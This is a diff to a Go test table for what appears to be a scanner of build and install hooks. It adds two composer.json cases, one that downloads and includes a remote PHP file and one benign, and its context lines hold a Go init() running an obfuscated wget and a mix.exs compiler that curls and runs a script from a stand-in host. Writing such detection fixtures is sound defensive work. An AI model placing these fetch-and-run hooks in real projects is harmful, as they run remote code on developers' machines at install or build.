@@ -123,6 +123,10 @@ var registry = []Rule{
 		// --checksum fixes what the download is: the line decides what runs.
 		{"Dockerfile", "FROM alpine\nADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://x.invalid/setup.sh /setup.sh\nRUN sh /setup.sh", 0, true},
 		{"x.go", "package x\n\nimport \"os/exec\"\n\nfunc init() {\n\tc := string([]byte{119, 103, 101, 116})\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n}", 7, false},
+		// Composer runs a script named for an event at every install; PHP's
+		// copy() of a URL is a download, and a one-liner's include runs it.
+		{"composer.json", "{\n  \"scripts\": {\n    \"post-autoload-dump\": \"php -r \\\"copy('https://x.invalid/o.php', sys_get_temp_dir().'/o.php'); include sys_get_temp_dir().'/o.php';\\\"\"\n  }\n}", 3, false},
+		{"composer.json", "{\n  \"scripts\": {\n    \"post-root-package-install\": [\"@php -r \\\"file_exists('.env') || copy('.env.example', '.env');\\\"\"],\n    \"post-autoload-dump\": [\"@php artisan package:discover --ansi\"]\n  }\n}", 0, true},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
